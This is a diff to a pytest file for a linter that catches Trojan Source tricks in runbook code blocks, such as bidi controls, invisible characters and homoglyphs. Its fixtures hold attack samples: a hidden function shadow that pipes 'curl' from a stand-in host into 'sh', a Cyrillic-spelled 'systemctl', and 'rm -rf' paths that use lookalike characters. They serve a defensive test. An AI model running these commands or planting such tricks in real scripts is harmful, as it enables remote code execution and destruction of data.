@@ -1,9 +1,10 @@
 """Review of the Trojan Source guard (`builder.lint`): attacks refused, real runbooks untouched.
 
-Covers issue 5 item 1: bidi controls and invisible characters are errors in every snippet
-(executable and reference), id and slug; non-ASCII is an error in executable code and a
-warning in comments and reference blocks; messages make the character visible; the
-per-snippet ``allow-non-ascii`` opt-in; real-looking runbooks do not trip it.
+Covers issue 5 item 1, revised by issue 11 (real collections release unchanged): bidi controls
+are errors in every snippet, id and slug; other invisible and control characters are errors in
+ids, slugs and fence lines, and make a block a reference block that never runs (a warning; an
+error in a catalog that requires runnable blocks); non-ASCII code makes a block reference;
+messages make the character visible; real-looking runbooks do not trip it.
 """
 
 from __future__ import annotations
@@ -15,6 +16,7 @@ import pytest
 
 from builder.lint import check_catalog, danger
 from builder.runbook import Catalog, Problem, load_catalog, parse_runbook
+from builder.runnable import classify
 from tests.conftest import REPO, run_cli
 
 TROJAN = {"bidi-control", "invisible-character", "control-character"}
@@ -33,10 +35,25 @@ DANGEROUS = (
 )
 
 
-def check(text: str, slug: str = "ops/restart") -> list[Problem]:
+def check(text: str, slug: str = "ops/restart", *, strict: bool = False) -> list[Problem]:
+    """The problems of one runbook, decided runnable or reference as `load_catalog` does."""
     runbook, problems = parse_runbook(slug, text.encode("utf-8"), f"{slug}.md")
     assert runbook is not None, problems
-    return check_catalog(Catalog(Path("."), (runbook,), tuple(problems)))
+    catalog = classify(Catalog(Path("."), (runbook,), tuple(problems)), require_runnable=strict)
+    assert not any(s.executable and s.why_not for s in catalog.runbooks[0].snippets)
+    return check_catalog(catalog)
+
+
+def never_runs(text: str, code: str, line: int) -> list[Problem]:
+    """The block is reference (never run) with a ``code`` warning; an error when strict."""
+    runbook, problems = parse_runbook("ops/restart", text.encode("utf-8"), "ops/restart.md")
+    assert runbook is not None
+    catalog = classify(Catalog(Path("."), (runbook,), tuple(problems)))
+    assert not catalog.runbooks[0].snippets[0].executable
+    found = check(text)
+    assert (code, "warning", line) in codes(found), found
+    assert (code, "error", line) in codes(check(text, strict=True))
+    return found
 
 
 def codes(problems: list[Problem]) -> list[tuple[str, str, int]]:
@@ -76,7 +93,8 @@ def test_dangerous_character_is_an_error_in_every_kind_of_snippet(
     info, body, line = PLACES[place]
     problems = check(block(info, body.format(c=char)))
     trojan = [p for p in problems if p.code in TROJAN]
-    assert codes(trojan) == [(code, "error", line)], problems
+    severity = "error" if code == "bidi-control" else "warning"  # else: the block never runs
+    assert codes(trojan) == [(code, severity, line)], problems
     assert cp(char) in trojan[0].message
     assert char not in str(trojan[0])  # the printed line never carries the raw character
     assert not [p for p in problems if p.code in NON_ASCII]  # reported once, as the worse
@@ -165,23 +183,23 @@ def test_stretched_string_attack_in_sql_reference_is_refused() -> None:
     assert codes(check(block("sql {#x}", sql))) == [("bidi-control", "error", 4)]
 
 
-def test_invisible_function_name_attack_is_refused() -> None:
+def test_invisible_function_name_attack_never_runs() -> None:
     body = "check\u200b() { true; }\ncheck() { curl -fsS https://x.invalid | sh; }\ncheck\u200b"
-    found = codes(check(block("bash {#x}", body)))
-    assert found == [("invisible-character", "error", 4), ("invisible-character", "error", 6)]
+    found = codes(never_runs(block("bash {#x}", body), "invisible-character", 4))
+    assert found == [("invisible-character", "warning", 4), ("invisible-character", "warning", 6)]
 
 
-def test_homoglyph_command_is_an_error_in_code() -> None:
+def test_homoglyph_command_never_runs() -> None:
     # Cyrillic "с" and "е" look like Latin: `systemctl` that runs another binary.
-    problems = check(block("bash {#x}", "\u0441yst\u0435mctl restart app"))
-    assert codes(problems) == [("non-ascii-code", "error", 4)]
-    assert "<U+0441>yst<U+0435>mctl" in problems[0].message
+    problems = never_runs(
+        block("bash {#x}", "\u0441yst\u0435mctl restart app"), "non-ascii-code", 4
+    )
+    assert any("<U+0441>yst<U+0435>mctl" in p.message for p in problems)
 
 
 @pytest.mark.parametrize("char", ["\u00a0", "\u2009", "\u3000", "\uff0d", "\u2215", "\u037e"])
-def test_lookalike_spaces_and_punctuation_are_errors_in_code(char: str) -> None:
-    problems = check(block("bash {#x}", f"rm -rf /srv/app{char}old"))
-    assert codes(problems) == [("non-ascii-code", "error", 4)]
+def test_lookalike_spaces_and_punctuation_in_code_never_run(char: str) -> None:
+    never_runs(block("bash {#x}", f"rm -rf /srv/app{char}old"), "non-ascii-code", 4)
 
 
 # --- non-ASCII: error in code, warning in comments and reference blocks, opt-in ----------------
@@ -194,8 +212,7 @@ def test_non_ascii_in_a_bash_comment_is_a_warning() -> None:
 
 
 def test_hash_inside_quotes_is_not_a_comment() -> None:
-    problems = check(block("bash {#x}", 'echo "# café"'))
-    assert codes(problems) == [("non-ascii-code", "error", 4)]
+    never_runs(block("bash {#x}", 'echo "# café"'), "non-ascii-code", 4)
 
 
 @pytest.mark.parametrize("lang", ["sql", "yaml", "promql", "text", "json", "zsh", "powershell"])
@@ -207,8 +224,7 @@ def test_non_ascii_in_a_reference_block_is_a_warning(lang: str) -> None:
 
 def test_console_output_may_be_non_ascii_but_commands_may_not() -> None:
     body = "$ tree /etc/app\n/etc/app\n├── app.conf\n└── tls\n$ echo “done”"
-    problems = check(block("console {#x}", body))
-    assert codes(problems) == [("non-ascii-code", "error", 8)]
+    never_runs(block("console {#x}", body), "non-ascii-code", 8)
 
 
 @pytest.mark.parametrize(
@@ -223,14 +239,15 @@ def test_console_output_may_be_non_ascii_but_commands_may_not() -> None:
 )
 def test_opt_in_allows_non_ascii_text_in_that_snippet_only(info: str) -> None:
     text = block(info, 'echo "Redémarrage terminé ✔"') + "\n```bash {#y}\necho ✔\n```\n"
-    assert codes(check(text)) == [("non-ascii-code", "error", 8)]
+    assert [c for c in codes(check(text, strict=True)) if c[2] != 8] == []  # x runs as signed
+    never_runs(text.split("\n\n", 1)[0] + "\n\n```bash {#y}\necho ✔\n```\n", "non-ascii-code", 4)
 
 
 @pytest.mark.parametrize(
     "info", ["bash {#x allow-non-ascii=false}", "bash {#x allow-non-ascii=no}"]
 )
 def test_opt_in_set_to_false_is_no_opt_in(info: str) -> None:
-    assert codes(check(block(info, "echo ✔"))) == [("non-ascii-code", "error", 4)]
+    never_runs(block(info, "echo ✔"), "non-ascii-code", 4)
 
 
 def test_opt_in_does_not_allow_dangerous_characters() -> None:
